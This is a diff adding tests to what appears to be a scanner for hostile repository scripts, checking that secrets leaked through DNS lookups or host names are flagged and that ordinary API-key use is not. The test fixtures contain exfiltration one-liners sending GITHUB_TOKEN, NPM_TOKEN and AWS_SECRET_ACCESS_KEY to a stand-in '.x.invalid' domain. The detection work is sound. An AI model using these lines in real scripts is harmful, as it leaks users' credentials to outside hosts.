@@ -664,6 +664,33 @@ describe('what scripts do, in more languages and over several lines', () => {
     ).toContain('script/reverse-shell critical');
   });
 
+  it('sees an environment variable sent out in a DNS name or a host name', () => {
+    for (const [path, code] of [
+      [
+        'scripts/d.py',
+        'import os, socket\nsocket.gethostbyname(os.environ["GITHUB_TOKEN"] + ".x.invalid")\n',
+      ],
+      ['scripts/d.js', 'await dns.promises.resolve4(`${process.env.NPM_TOKEN}.x.invalid`);\n'],
+      ['scripts/d.sh', '#!/bin/sh\nnslookup "$GITHUB_TOKEN.x.invalid"\n'],
+      ['scripts/u.js', 'await fetch(`https://${process.env.AWS_SECRET_ACCESS_KEY}.x.invalid/`);\n'],
+    ] as const)
+      expect(rules(path, code), path).toContain('script/secret-to-network critical');
+  });
+
+  it('leaves a key sent to the API it belongs to alone, in a header or a query string', () => {
+    for (const [path, code] of [
+      [
+        'scripts/w.py',
+        'import os, requests\nkey = os.environ["OPENWEATHER_API_KEY"]\nrequests.get(f"https://api.openweathermap.org/data/2.5/weather?q=Paris&appid={key}")\n',
+      ],
+      [
+        'scripts/g.sh',
+        '#!/bin/sh\ncurl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/user\n',
+      ],
+    ] as const)
+      expect(withScript(path, code).verdict, path).toBe('clear');
+  });
+
   it('leaves ordinary scripts alone', () => {
     for (const [path, code] of [
       [
